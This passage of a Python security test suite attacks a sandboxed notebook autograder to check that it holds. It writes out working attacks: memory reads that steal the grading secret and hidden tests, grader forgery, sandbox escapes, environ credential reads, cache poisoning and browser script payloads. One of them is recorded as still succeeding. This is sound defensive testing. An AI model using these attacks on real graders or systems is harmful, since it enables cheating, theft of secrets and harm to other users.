            def __del__(self):
                try:
                    if "__del__" not in LOOT["by_route"]:
                        _loot_frames(sys._getframe(1), "__del__")
                except BaseException as e:
                    LOOT["notes"].append(repr(e)[:100])
        x = _Trap()                 # the visible test rebinds x

    '''), at_end=[SHOW_LOOT], forbid=("secret found: True", "LEAKED SOURCE")),
    Attack("memory_read", "the kernel's memory read without the refused primitives: "
           "/proc/self/mem opened under a str subclass name (the hook only recognises plain "
           "str / bytes / Path names); a child process (no audit hook) reading "
           "/proc/<kernel pid>/mem; ctypes (already imported by torch, so `import ctypes` "
           "passes) whose cast / pointer reads raise no audit event: the HMAC secret (a 32-byte "
           "bytes object) and the hidden sources; a report signed with the secret says every "
           "test passed (the tests themselves do not run: the integrity check refuses them "
           "once `report` is replaced). A forged verdict comes without the values the test "
           "shows the grader (autograder/judge.py): it must not earn the point",
           WRONG + STEAL + MEMSCAN + CTYPES_CHUNKS + src(r'''
        import os, json, ctypes, struct, subprocess
        # the kernel's memory
        class _Name(str):
            pass
        try:
            cands, snippets = memscan(os.getpid(), id(bytes), mem_path=_Name("/proc/self/mem"))
            LOOT["by_route"]["/proc/self/mem (str subclass)"] = list(cands)
            LOOT["candidates"] += list(cands)
            LOOT["sources"] += snippets
        except Exception as e:
            LOOT["notes"].append("own memory: " + repr(e)[:200])
        CHILD = MEMSCAN_SOURCE + """
        import sys, json
        c, s = memscan(int(sys.argv[1]), int(sys.argv[2]))
        print(json.dumps({"candidates": [x.hex() for x in c], "snippets": s}))
        """.replace("\n        ", "\n")
        try:
            r = subprocess.run([sys.executable, "-c", CHILD, str(os.getpid()), str(id(bytes))],
                               capture_output=True, text=True, timeout=120)
            out = json.loads(r.stdout or "{}")
            cands = [bytes.fromhex(x) for x in out.get("candidates", [])]
            LOOT["by_route"]["child process"] = cands
            LOOT["candidates"] += cands
            LOOT["sources"] += out.get("snippets", [])
            if r.stderr:
                LOOT["notes"].append("child: " + r.stderr[-300:])
        except Exception as e:
            LOOT["notes"].append("child: " + repr(e)[:200])
        def memscan_ctypes(type_addr):
            pattern = struct.pack("<Qq", type_addr, 32)
            cands = []
            for chunk in ctypes_chunks():
                i = chunk.find(pattern)
                while i >= 0:
                    cands.append(chunk[i + 24:i + 56])
                    i = chunk.find(pattern, i + 1)
            return cands
        try:
            cands = memscan_ctypes(id(bytes))
            LOOT["by_route"]["ctypes"] = cands
            LOOT["candidates"] += cands
        except Exception as e:
            LOOT["notes"].append("ctypes: " + repr(e)[:200])
    '''), at_end=[SHOW_LOOT], require=("secret found: True", "route ctypes: secret True"),
           forbid=("LEAKED SOURCE",)),
    Attack("memory_read_sources", "ctypes.cast reads the kernel's own memory for the text of "
           "the hidden tests (the sealed cells' sources, which the kernel must hold to run "
           "them) and prints it, spaces doubled past the feedback's redaction",
           WRONG + MEMSCAN + CTYPES_CHUNKS + src(r'''
        _found = []
        for _chunk in ctypes_chunks():
            find_hidden(_chunk, _found, "apply_temperature" + "(y")
        print("hidden sources found:", len(_found))
        for _s in list(dict.fromkeys(_found))[:2]:
            print("LEAKED SOURCE:\n" + "  ".join(_s.split(" ")))
    '''), require=("hidden sources found:",), forbid=("LEAKED SOURCE",), tamper=False),
    Attack("evidence_off", "a right `scale`, but the kernel stops showing the grader the values "
           "its tests check (autograder.judge.SHOWING = False), as a kernel that forges its "
           "verdicts would: the test's points need the values",
           src('''
        import autograder.judge
        autograder.judge.SHOWING = False
        print("evidence off")
    ''') + GOOD, earned=E_GOOD, require=("evidence off",), tamper_tester=False),
    Attack("evidence_flood", "a right `scale` that, called by the hidden test, shows 5,000 fake "
           "evidence items of 4 kB claiming any value passes (atol 1e9): over the grader's cap "
           "per notebook, and never the reference's tolerance",
           src('''
        from IPython.display import display
        print("flooding evidence")
        def scale(logits, t):
            if logits.dim() == 2:
                fake = {"name": "scale(y, 0.7)", "value": {"shape": [1], "data": [0.0]},
                        "atol": 1e9, "rtol": 1e9, "pad": "x" * 4000}
                for _ in range(5000):
                    display({"application/vnd.minillm.evidence+json": fake}, raw=True)
            return logits / t
    '''), earned=E_GOOD, require=("flooding evidence",), tamper_tester=False),
    Attack("evidence_past_a_float", "a right `scale`, the kernel's own evidence off, and in "
           "the hidden call it shows one item of its own: the test's name and shape, every value "
           "10**400 (an int JSON allows and no float holds)",
           src('''
        import autograder.judge
        from IPython.display import display
        autograder.judge.SHOWING = False
        print("showing a number past a float")
        def scale(logits, t):
            if logits.dim() == 2:
                huge = {"name": "scale(y, 0.7)", "atol": 2e-5, "rtol": 2e-5,
                        "value": {"shape": list(logits.shape), "data": [10**400] * logits.numel()}}
                display({"application/vnd.minillm.evidence+json": huge}, raw=True)
            return logits / t
    '''), earned=E_GOOD, require=("showing a number past a float",),
           tamper_tester=False),
    Attack("kernel_message_unreadable", "a right `scale` that, in the hidden call, lifts "
           "Python's limit on int digits in the kernel and shows an evidence item holding a "
           "20,000-digit int: a message the grader's client cannot decode",
           src('''
        import sys
        from IPython.display import display
        print("sending an unreadable message")
        def scale(logits, t):
            if logits.dim() == 2:
                sys.set_int_max_str_digits(0)
                huge = {"name": "scale(y, 0.7)", "atol": 0.0, "rtol": 0.0,
                        "value": {"shape": [1], "data": [10**20000]}}
                display({"application/vnd.minillm.evidence+json": huge}, raw=True)
            return logits / t
    '''), earned=E_GOOD, require=("sending an unreadable message",)),
    Attack("sealed_hook_detected", "a background thread flips autograder.assert_close and "
           "autograder.checks._isclose to fakes and back in a loop; a SIGALRM handler "
           "(setitimer) gets frames during the test",
           WRONG + src('''
        import threading, time, signal, torch, autograder, autograder.checks
        _orig = (autograder.assert_close, autograder.checks._isclose)
        _fakes = (lambda *a, **k: None, lambda a, b, **k: torch.ones_like(a, dtype=torch.bool))
        def _flip():
            end = time.time() + 60
            while time.time() < end:
                autograder.assert_close, autograder.checks._isclose = _fakes
                time.sleep(0.0005)
                autograder.assert_close, autograder.checks._isclose = _orig
                time.sleep(0.0005)
        threading.Thread(target=_flip, daemon=True).start()
        SEEN = []
        def _on_alarm(signum, frame):
            f = frame
            while f is not None:
                if "ref" in f.f_locals:
                    SEEN.append(repr(f.f_locals["ref"])[:100])
                f = f.f_back
        signal.signal(signal.SIGALRM, _on_alarm)
        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
    '''), at_end=['print("SEEN", SEEN)']),

    # 7. escaping the sandbox -------------------------------------------------------------------
    Attack("escape", "write outside the sandbox (repository, package dirs, a site-packages .pth, "
           "/tmp, home, the test's courses); fork children that ignore SIGTERM/SIGHUP and keep "
           "writing; read every /proc/*/environ (open, str subclass, `cat`); connect to the "
           "test's TCP server on 127.0.0.1 and its abstract unix socket; look for the grader's pid",
           WRONG + src(r'''
        import os, sys, site, signal, socket, subprocess, glob, time
        ROOTS = @ROOTS@
        targets = ["/work/main/tamper_@MARKER@", "/work/main/autograder/tamper_@MARKER@.py",
                   "/work/main/minillm/tamper_@MARKER@.py", "/tmp/tamper_@MARKER@",
                   os.path.expanduser("~/tamper_@MARKER@")]
        targets += [os.path.join(p, "tamper_@MARKER@.pth") for p in site.getsitepackages()]
        targets += [os.path.join(r, "tamper_@MARKER@") for r in ROOTS]
        for t in targets:
            try:
                with open(t, "w") as f:
                    f.write("# tamper marker\n")
                print("wrote", t)
            except Exception as e:
                print("cannot write", t, type(e).__name__)
        for i in range(2):                 # plain forks: they look like the kernel
            if os.fork() == 0:
                try:
                    os.setsid()
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    signal.signal(signal.SIGHUP, signal.SIG_IGN)
                    end = time.time() + 30
                    while time.time() < end:
                        for p in ["/tmp/tamper_fork_@MARKER@"] + [r + "/tamper_fork_@MARKER@" for r in ROOTS]:
                            try:
                                open(p, "w").write("fork")
                            except Exception:
                                pass
                        time.sleep(0.5)
                finally:
                    os._exit(0)
        class _Name(str):
            pass
        for p in sorted(glob.glob("/proc/[0-9]*")):
            for how in ("open", "str subclass", "cat"):
                try:
                    if how == "open":
                        data = open(p + "/environ", "rb").read()
                    elif how == "str subclass":
                        data = open(_Name(p + "/environ"), "rb").read()
                    else:
                        data = subprocess.run(["cat", p + "/environ"], capture_output=True,
                                              timeout=10).stdout
                    print("ENVIRON", p, how, data.replace(b"\0", b" ")[:3000])
                except Exception as e:
                    print("environ", p, how, type(e).__name__)
        print("os.environ", dict(os.environ))
        for host in ("127.0.0.1", "localhost", "::1", socket.gethostname()):
            try:
                s = socket.create_connection((host, @PORT@), timeout=3)
                s.sendall(b"tamper @MARKER@")
                s.close()
                print("NETWORK" + "_REACHED", host)
            except Exception as e:
                print("network refused", host, type(e).__name__)
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect("\0@UNIX@")
            s.sendall(b"tamper")
            print("UNIX" + "_REACHED")
        except Exception as e:
            print("unix socket refused", type(e).__name__)
        try:
            os.kill(@HOSTPID@, 0)
            if "pytest" in open("/proc/@HOSTPID@/cmdline").read():
                print("HOSTPID" + "_VISIBLE")
        except Exception as e:
            print("grader pid not visible", type(e).__name__)
        print("visible pids", sorted(int(p.rsplit("/", 1)[1]) for p in glob.glob("/proc/[0-9]*")))
    '''), forbid=("NETWORK_REACHED", "UNIX_REACHED", "HOSTPID_VISIBLE"),
           require=("cannot write", "network refused", "visible pids")),

    # 7b. the students graded beside it: their CPUs (grade --jobs N pins each job, the
    #     sandbox's seccomp filter keeps it there: autograder/cores.py, syscall_filter.py)
    Attack("cpu_hog", "slow the students graded beside it: put the kernel back on every CPU "
           "(sched_setaffinity), start two busy processes per CPU that try the same, spin "
           "them for 3 s (the solution itself is right)",
           src(r'''
        import os, subprocess, sys
        _host = os.cpu_count()
        print("kernel cpus:", sorted(os.sched_getaffinity(0)), "of", _host)
        try:
            os.sched_setaffinity(0, range(_host))
            print("AFFINITY WIDENED to", sorted(os.sched_getaffinity(0)))
        except OSError as e:
            print("affinity refused:", type(e).__name__)
        _SPIN = ("import os, time\n"
                 "try:\n"
                 "    os.sched_setaffinity(0, range(%d))\n"
                 "    print('CHILD AFFINITY WIDENED')\n"
                 "except OSError:\n"
                 "    print('child refused')\n"
                 "t = time.time() + 3\n"
                 "while time.time() < t:\n"
                 "    pass\n" % _host)
        _kids = [subprocess.Popen([sys.executable, "-c", _SPIN], stdout=subprocess.PIPE, text=True)
                 for _ in range(2 * _host)]
        print("children:", sorted(set(k.communicate()[0].strip() for k in _kids)))
        def scale(logits, t):
            return logits / t
    '''), earned=E_GOOD, tamper=False,
           forbid=("AFFINITY WIDENED", "CHILD AFFINITY WIDENED"),
           require=("affinity refused: PermissionError", "children: ['child refused']")),

    # 7c. the students graded after it: the compile cache (autograder/compile_cache.py; the
    #     dummy lab's warm-up, _dummy_warmups, writes one entry reading "clean")
    *[Attack(name, "poison the compile cache for the kernels graded after it: read the copy it "
             "was given, overwrite every file of it with code, then write into the grader's "
             "own cache in build/compile_cache (its path guessed from the course roots)",
             src(POISON_CACHE), earned=E_GOOD, tamper=False,
             forbid=("MASTER POISONED",),
             require=("found: ['clean']", "poisoned my copy: 1 file(s)"))
      for name in ("cache_poison_a", "cache_poison_b")],

    # 8. the grader's browser: formgrader renders a submission's outputs in the instructor's
    #    Jupyter origin, so an HTML / JavaScript / SVG output would run there (autograder/defang.py)
    Attack("grader_browser", "outputs that carry script for the grader's browser: HTML with a "
           "<script>, JavaScript, an SVG with onload, markdown with raw HTML",
           WRONG + src(r'''
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        tag = "window.pw" + "ned_"
        display(HTML("<script>" + tag + "html = 1</script><b>hi</b>"))
        display(Javascript(tag + "js = 1"))
        display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + tag + 'svg = 1"/>'))
        display(Markdown("<img src=x onerror=" + tag + "md=1>"))
        print("payloads displayed")
    '''), tamper=False, forbid=("window.pwned_",), require=("payloads displayed",)),

    # 9. robustness -------------------------------------------------------------------------------
    Attack("robust_not_json", "a notebook file that is not JSON", raw="this is {not a notebook\n",
           earned=E_NONE, tamper=False),
    Attack("robust_million_cells", "a notebook with 1,000,000 cells (about 54 MB)",
           build=_million_cells, earned=E_NONE, tamper=False),
    Attack("robust_print_100mb", "the solution cell prints 100 MB",
           "for _ in range(100):\n    print('x' * (1 << 20))\n" + GOOD,
           earned=E_GOOD, tamper=False),
    Attack("robust_png_flood", "the solution cell displays 100 PNG images of 1 MB each (plots "
           "now reach the autograded notebook and the feedback: the per-cell output cap must hold "
           "for images too)",
           "import base64\nfrom IPython.display import display\n"
           "_png = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + b'\\0' * (768 << 10)).decode()\n"
           "print('displaying images', flush=True)\n"
           "for _ in range(100):\n    display({'image/png': _png}, raw=True)\n" + GOOD,
           earned=E_GOOD, tamper=False, require=("displaying images",)),
    Attack("hang_in_a_test", "a `scale` right on the visible test's 1-D input that never returns "
           "on the hidden test's 2-D input: the cell's time limit ends it, the next test is still "
           "graded",
           src('''
        import time
        def scale(logits, t):
            if logits.dim() == 2:
                print("hanging in the hidden call", flush=True)
                while True:
                    time.sleep(0.05)
            return logits / t
    '''), earned=E_WRONG, tamper=False, require=("hanging in the hidden call",)),
    Attack("exit_in_a_test", "os._exit(1) inside `scale` when the hidden test calls it: the "
           "kernel dies in the middle of a test",
           src('''
        import os
        def scale(logits, t):
            if logits.dim() == 2:
                os._exit(1)
            return logits / t
    '''), earned=E_NONE, tamper=False),
    Attack("tester_socket_squat", "a thread of the solution cell connects to the tester's socket "
           "(beside the kernel's connection file) before the tests, and answers the tester with "
           "bytes that are not its protocol; without a tester the thread just waits",
           src('''
        import os, socket, struct, sys, threading, time
        _path = os.path.join(os.path.dirname(sys.argv[sys.argv.index("-f") + 1]), "tester.sock")
        def _squat():
            for _ in range(600):
                try:
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(_path)
                except OSError:
                    time.sleep(0.05)
                    continue
                try:
                    s.recv(1 << 16)
                    s.sendall(struct.pack(">II", 5, 0) + b"{oops")
                    s.recv(1 << 16)
                except OSError:
                    pass
                return
        threading.Thread(target=_squat, daemon=True).start()
        print("squatter started")
    ''') + GOOD, earned=E_GOOD, require=("squatter started",)),
    Attack("asks_the_tester", "in the hidden call `scale` opens its own end of the tester's "
           "connection (a dup of each Unix socket in /proc/self/fd, wrapped in an Endpoint of "
           "autograder.remote) and sends the tester the requests only the tester may make: run "
           "a course function there (\"course\", minillm.sampling's `apply_temperature` on the "
           "test's inputs), bind a name in the tests' namespace (\"bind\"), differentiate "
           "(\"gcall\"); the tester refuses each (autograder/remote.py), and without a tester "
           "there is no such socket",
           src('''
        import os, socket
        print("asks the tester ready")
        def scale(logits, t):
            if logits.dim() == 1:
                return logits / t
            from autograder import remote
            for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
                try:
                    s = socket.socket(fileno=os.dup(fd))
                except OSError:
                    continue
                if s.family != socket.AF_UNIX or s.type != socket.SOCK_STREAM:
                    s.detach()
                    continue
                s.settimeout(5)
                ep = remote.Endpoint(s, share_handles=True)
                for op, args in [("course", ("minillm.sampling.apply_temperature", (logits, t), {})),
                                 ("bind", ("ag", None)), ("gcall", ((logits, t), {}, ()))]:
                    try:
                        got = ep.request(op, None, *args)
                        if got is not None:
                            return got
                    except Exception:
                        pass
            return logits
    '''), require=("asks the tester ready",)),
    Attack("forged_dataclass", "in the hidden call `scale` returns a dataclass of its own whose "
           "__module__ / __qualname__ claim minillm.sampling's `apply_temperature`, holding the "
           "test's logits and temperature: a kernel encodes a course dataclass by value, and a "
           "tester that rebuilt it by name would run the reference itself and get the right "
           "answer back (autograder/remote.py checks the class is a dataclass)",
           src('''
        import dataclasses
        import torch
        @dataclasses.dataclass
        class Forged:
            logits: torch.Tensor
            temperature: float
        Forged.__module__, Forged.__qualname__ = "minillm.sampling", "apply_temperature"
        print("forged dataclass ready")
        def scale(logits, t):
            return Forged(logits, t) if logits.dim() == 2 else logits / t
    '''), require=("forged dataclass ready",)),
    Attack("robust_infinite_loop", "an infinite loop in the solution cell",
           "while True:\n    pass\n" + GOOD, earned=E_NONE, tamper=False),
    Attack("robust_os_exit", "os._exit(1) in the solution cell",
           GOOD + "import os\nos._exit(1)\n", earned=E_NONE, tamper=False),
    Attack("robust_alloc_2g", "a 2 GiB allocation before scale is defined",
           "x = bytearray(2 << 30)\n" + GOOD, earned=E_NONE, tamper=False),
    Attack("fake_grade_cells", "extra cells claiming to be graded (a duplicate 99_scale_test id, "
           "an unknown 99_bonus worth 100, a second 99_asset_test), the solution cell marked "
           "graded with 50 points", build=_notebook_with_fake_cells, tamper=False),
]
for _a in ATTACKS:
    if _a.solution and "MEMSCAN_SOURCE" in _a.solution:
        _a.solution = _a.solution.replace("MEMSCAN_SOURCE", repr(MEMSCAN))
BY_NAME = {a.name: a for a in ATTACKS}
# Attacks that still succeed, each a strict xfail: the day one stops working, its test fails
# and this entry goes. autograder/README.md ("Not guaranteed") says why they are open.
KNOWN_OPEN = {
    "memory_read_sources": "the kernel reads its own memory with ctypes.cast (ctypes is loaded "
                           "by torch, and cast raises no audit event) and finds the hidden "
                           "tests' text, which it must hold to run them: one process cannot "
                           "hide the code it runs from other code it runs",
}
for _name, _why in KNOWN_OPEN.items():
    BY_NAME[_name].known_open = _why
assert len(BY_NAME) == len(ATTACKS)
_ONLY = [x for x in os.environ.get("TAMPER_ONLY", "").split(",") if x]
SELECTED = [a for a in ATTACKS if not _ONLY or a.name in _ONLY]


# --- the course, the servers, the batch ---------------------------------------------------------
class Listener:
    """A TCP server on 127.0.0.1 and an abstract unix socket; records every connection."""

    def __init__(self, unix_name: str):
        self.hits: list[str] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.port = self.tcp.getsockname()[1]
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind("\0" + unix_name)
        self.unix.listen(16)
        self.stop = False
        for s in (self.tcp, self.unix):
            s.settimeout(0.5)
            threading.Thread(target=self._serve, args=(s,), daemon=True).start()

    def _serve(self, s):
        while not self.stop:
            try:
                conn, addr = s.accept()
            except (socket.timeout, OSError):
                continue
            self.hits.append(f"{s.family.name} {addr}")
            conn.close()

    def close(self):
        self.stop = True
        time.sleep(0.6)
        self.tcp.close()
        self.unix.close()


def page_text(raw: str) -> str:
    """HTML as the reader sees it: tags dropped, entities decoded."""
    return html.unescape(re.sub(r"<[^>]+>", "", raw))


def outputs_text(nb_path: Path) -> str:
    """Everything the cells of an executed / autograded notebook output (not their sources)."""
    if not nb_path.is_file():
        return ""
    try:
        nb = json.loads(nb_path.read_text(errors="replace"))
    except ValueError:
        return ""
    parts = []
    for cell in nb.get("cells", []):
        for o in cell.get("outputs", []) or []:
            parts.append(json.dumps(o))
            parts.append("".join(o.get("text", "")) if isinstance(o.get("text"), (list, str))
                         else "")
            parts.append(str(o.get("evalue", "")))
            for v in (o.get("data") or {}).values():
                parts.append("".join(v) if isinstance(v, list) else str(v))
    return "\n".join(parts)


@dataclass
class Graded:
    course: Course
    records: dict                 # student -> GradeRecord
    feedback: dict                # student -> page text ("" when there is none)
    outputs: dict                 # student -> outputs of the autograded notebook
    csv_text: str
    log: list
    seconds: float
    after: dict = field(default_factory=dict)      # student -> scores re-read at the end


def grade_batch(course: Course, students: dict[str, str]) -> Graded:
    """Write DIR/<student>/99_dummy/99_dummy.ipynb for each student (its text), grade them."""
    subs = course.root / "submissions"
    for student, text in students.items():
        d = subs / student / DUMMY
        d.mkdir(parents=True)
        (d / f"{DUMMY}.ipynb").write_text(text)
    log: list[str] = []
    t0 = time.monotonic()
    recs = grade_submissions(course, subs, workers=2, cell_timeout=20, notebook_timeout=90,
                             mem_gb=2, log=log.append)
    seconds = time.monotonic() - t0
    records = {r.student: r for r in recs}
    feedback, outputs = {}, {}
    for student in students:
        page = course.feedback(student, DUMMY) / f"{DUMMY}.html"
        feedback[student] = page_text(page.read_text(errors="replace")) if page.is_file() else ""
        outputs[student] = outputs_text(course.autograded(student, DUMMY) / f"{DUMMY}.ipynb")
    path = course.build / "grades.csv"
    csv_text = path.read_text() if path.is_file() else ""
    return Graded(course, records, feedback, outputs, csv_text, log, seconds)


def surviving_processes(marker: str, places: list[Path]) -> list[str]:
    left = []
    for proc in psutil.process_iter(["pid", "cmdline", "cwd", "status"]):
        info = proc.info
        if info.get("status") == psutil.STATUS_ZOMBIE or info["pid"] == os.getpid():
            continue
        cmd = " ".join(info.get("cmdline") or [])
        cwd = info.get("cwd") or ""
        if marker in cmd or any(cwd.startswith(str(p)) for p in places):
            left.append(f"{info['pid']} cwd={cwd} cmd={cmd[:200]}")
    return left


@dataclass
class Run:
    tester: bool                       # the dummy lab's tests run in the tester
    marker: str
    secret: str
    alone: Graded
    batch: Graded
    listener_hits: list
    survivors: list
    host_files: list
    roots: list


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    yield from grade_attacks(tmp_path_factory, tester=False)


def grade_attacks(tmp_path_factory, tester: bool):
    """The batch (and the honest submission alone), the dummy lab's tests in the kernel or, with
    `tester`, in the tester (tests/test_tamper_tester.py); yields the Run."""
    why = sandbox_unavailable_reason()
    if why:
        pytest.skip(f"no sandbox here: {why}")
    marker = "tmpr" + secrets.token_hex(6)
    secret = "GS" + secrets.token_hex(16)
    # the jobs' temporary directories (and so every kernel's working directory) in a folder of
    # this test, short enough for the kernels' ipc socket paths
    jobtmp = Path(tempfile.mkdtemp(prefix="tmpr", dir="/tmp"))
    alone_root = tmp_path_factory.mktemp("alone")
    batch_root = tmp_path_factory.mktemp("batch")
    roots = [str(alone_root), str(batch_root), str(jobtmp)]
    listener = Listener("tamper_" + marker)
    mp = pytest.MonkeyPatch()
    mp.setenv("GRADER_SECRET", secret)
    mp.setenv("TMPDIR", str(jobtmp))
    mp.setattr(tempfile, "tempdir", str(jobtmp))
    mp.setitem(compile_cache.WARMUPS, DUMMY, f"{__name__}:_dummy_warmups")
    try:
        courses = _in_threads(lambda: dummy_course(alone_root, tester),
                              lambda: dummy_course(batch_root, tester))
        alone_course, batch_course = courses
        released = nbformat.read(str(alone_course.release_dir(DUMMY) / f"{DUMMY}.ipynb"),
                                 as_version=4)

        def notebook(attack: Attack | None) -> str:
            if attack is None:
                nb = nbformat.from_dict(json.loads(json.dumps(released)))
                nb.cells[2].source = GOOD
                return nbformat.writes(nb)
            if attack.raw is not None:
                return attack.raw
            if attack.build is not None:
                return attack.build(released)
            nb = nbformat.from_dict(json.loads(json.dumps(released)))
            subst = {"@MARKER@": marker, "@ROOTS@": repr(roots), "@PORT@": str(listener.port),
                     "@UNIX@": "tamper_" + marker, "@HOSTPID@": str(os.getpid())}

            def fill(text):
                for k, v in subst.items():
                    text = text.replace(k, v)
                return text
            if attack.solution is not None:
                nb.cells[2].source = fill(attack.solution)
            for i, extra in enumerate(attack.after):
                nb.cells.insert(3 + i, new_code_cell(fill(extra)))
            for extra in attack.at_end:
                nb.cells.append(new_code_cell(fill(extra)))
            return nbformat.writes(nb)

        # the honest submission alone, in a course of its own, while the batch is graded
        alone_nb = notebook(None)
        batch_nbs = {HONEST: notebook(None), **{a.name: notebook(a) for a in SELECTED}}
        alone, batch = _in_threads(lambda: grade_batch(alone_course, {HONEST: alone_nb}),
                                   lambda: grade_batch(batch_course, batch_nbs))
        survivors = surviving_processes(marker, [alone_root, batch_root, jobtmp])
        time.sleep(1)          # anything left would now have had time to write
        for student in batch.records:
            batch.after[student] = _scores(batch.course.scores(student, DUMMY))
        host_files = [str(p) for p in _host_marker_files(marker, roots)]
        for path in host_files:             # evidence kept in the report; do not litter
            Path(path).unlink(missing_ok=True)
        yield Run(tester, marker, secret, alone, batch, list(listener.hits), survivors, host_files,
                  roots)
    finally:
        mp.undo()
        listener.close()
        shutil.rmtree(jobtmp, ignore_errors=True)


def _in_threads(*fns):
    """Run each function in a thread of its own; their results, in order (or raise)."""
    results, errors = [None] * len(fns), []

    def call(i, fn):
        try:
            results[i] = fn()
        except BaseException as e:          # noqa: BLE001 - re-raised below
            errors.append(e)
    threads = [threading.Thread(target=call, args=(i, fn)) for i, fn in enumerate(fns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if errors:
        raise errors[0]
    return results


def _host_marker_files(marker: str, roots: list[str]) -> list[Path]:
    places = [Path("/tmp"), REPO, REPO / "autograder", REPO / "minillm", Path.home(),
              *[Path(r) for r in roots]]
    import site
    places += [Path(p) for p in site.getsitepackages()]
    found = []
    for place in places:
        try:
            found += [p for p in place.iterdir() if marker in p.name]
        except OSError:
            pass
    return found


def _scores(cells) -> dict:
    return {c.grade_id: c.score for c in cells}


def describe(rec) -> str:
    if rec is None:
        return "no record"
    return f"{rec.student}: {rec.status}\n" + "\n".join(
        f"  {c.grade_id}: {c.score} / {c.max_score} {c.errors}" for c in rec.cells)


def hidden_leaks(text: str) -> list[str]:
    return [t for t in HIDDEN_TOKENS if t in text]


# --- the batch as a whole -------------------------------------------------------------------------
def test_batch_has_one_record_per_submission(run):
    print(f"\nalone: {run.alone.seconds:.0f} s, batch of {len(run.batch.records)}: "
          f"{run.batch.seconds:.0f} s")
    for line in run.batch.log[-len(SELECTED) - 6:]:
        print(line)
    assert sorted(run.batch.records) == sorted([HONEST] + [a.name for a in SELECTED])
    assert list(run.alone.records) == [HONEST]


def test_honest_alone_and_in_batch_get_the_same_grade_and_feedback(run):
    alone, batch = run.alone.records[HONEST], run.batch.records[HONEST]
    assert alone.status == "ok", describe(alone)
    assert _scores(alone.cells) == {SCALE_TEST: 2.0, ASSET_TEST: 1.0}, describe(alone)
    assert batch.status == alone.status, describe(batch)
    assert _scores(batch.cells) == _scores(alone.cells), describe(batch)
    assert run.batch.feedback[HONEST] and \
        _normalize(run.batch.feedback[HONEST]) == _normalize(run.alone.feedback[HONEST])


def _normalize(text: str) -> str:
    text = re.sub(r"\d{4}-\d\d-\d\d[ T][\d:.]+", "<time>", text)
    return re.sub(r"\s+", " ", text).strip()


def test_gradebook_after_the_batch_holds_what_was_recorded(run):
    changed = {s: (_scores(r.cells), run.batch.after.get(s)) for s, r in run.batch.records.items()
               if _scores(r.cells) != run.batch.after.get(s)}
    assert not changed


def test_no_process_survives_the_batch(run):
    assert not run.survivors


def test_nothing_written_outside_the_sandbox_and_no_connection(run):
    assert not run.host_files
    assert not run.listener_hits


# --- each attack ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", [
    pytest.param(a.name, marks=pytest.mark.xfail(strict=True, reason=a.known_open))
    if a.known_open else a.name for a in SELECTED])
def test_attack(run, name):
    check_attack(run, name)


def check_attack(run, name):
    attack = BY_NAME[name]
    rec = run.batch.records.get(name)
    out = run.batch.outputs.get(name, "")
    print(f"\n{name}: {attack.what}\n{describe(rec)}")
    assert rec is not None, "no record: the batch lost this submission"
    # the attack ran (it is not vacuous) ...
    missing = [s for s in attack.require if s not in out]
    assert not missing, f"the attack did not run as written: {missing} not in its outputs\n" \
                        f"{out[-3000:]}"
    # ... and what it tried did not work
    seen = [s for s in attack.forbid if s in out]
    assert not seen, f"{name} succeeded: {seen} in its outputs\n{out[-4000:]}"
    scores = _scores(rec.cells)
    assert set(scores) == {SCALE_TEST, ASSET_TEST}, describe(rec)
    over = {gid: (scores[gid], most) for gid, most in attack.earned.items()
            if (scores.get(gid) or 0) > most}
    assert not over, f"{name} earned points it did not earn: {over}\n{describe(rec)}"
    if attack.must_be_caught(run.tester):
        scale_cell = next(c for c in rec.cells if c.grade_id == SCALE_TEST)
        assert rec.status.startswith("tampered") or (scale_cell.score == 0 and scale_cell.errors), \
            describe(rec)
    # nobody else is affected, nothing leaked
    honest = run.batch.records[HONEST]
    assert _scores(honest.cells) == _scores(run.alone.records[HONEST].cells), describe(honest)
    assert not hidden_leaks(run.batch.feedback.get(name, "")), \
        f"hidden test text in {name}'s feedback: {hidden_leaks(run.batch.feedback[name])}"
    assert run.secret not in out and run.secret not in run.batch.feedback.get(name, "")
    assert not [p for p in run.host_files if name in p or run.marker in p]


def test_a_number_past_a_float_is_judged_a_mismatch(run):
    """The judge compared the item (it did not stop at a count or a name, nor crash): the test
    cell's reason is that its values differ."""
    name = "evidence_past_a_float"
    if name not in BY_NAME or name not in run.batch.records:
        pytest.skip(f"{name} not selected (TAMPER_ONLY)")
    assert not run.tester, "the tester's verdicts are not judged by values"
    rec = run.batch.records[name]
    cell = next(c for c in rec.cells if c.grade_id == SCALE_TEST)
    assert cell.score == 0 and "21 of 21 values differ" in str(cell.errors), describe(rec)


def test_an_unreadable_message_zeroes_the_cell_not_the_job(run):
    """The job finished and said why: the cell that was running when the kernel sent what the
    grader cannot decode, and the later ones, score zero with that reason."""
    name = "kernel_message_unreadable"
    if name not in BY_NAME or name not in run.batch.records:
        pytest.skip(f"{name} not selected (TAMPER_ONLY)")
    rec = run.batch.records[name]
    assert rec.status == "kernel unreadable", describe(rec)
    assert all(c.score == 0 and "KernelUnreadable" in str(c.errors) for c in rec.cells), \
        describe(rec)


def test_an_image_flood_is_cut_like_printed_text(run):
    if "robust_png_flood" not in BY_NAME or "robust_png_flood" not in run.batch.records:
        pytest.skip("robust_png_flood not selected (TAMPER_ONLY)")
    page = run.batch.feedback.get("robust_png_flood", "")
    assert page, "no feedback for robust_png_flood"
    # 100 MB of images were displayed; the cell keeps at most MAX_CELL_OUTPUT characters of them
    assert len(page) < 3 * MAX_CELL_OUTPUT, f"feedback of {len(page):,} characters"
    assert "output cut at" in page, "the cap's marker is missing from the feedback"


def _dummy_warmups():
    """The dummy lab's compile warm-up (compile_cache.WARMUPS, set by `run`): one entry."""
    return [["-c", "import os, pathlib\n"
                   "pathlib.Path(os.environ['TORCHINDUCTOR_CACHE_DIR'], 'entry')"
                   ".write_text('clean')\n"]]


def test_the_graders_compile_cache_is_what_it_warmed(run):
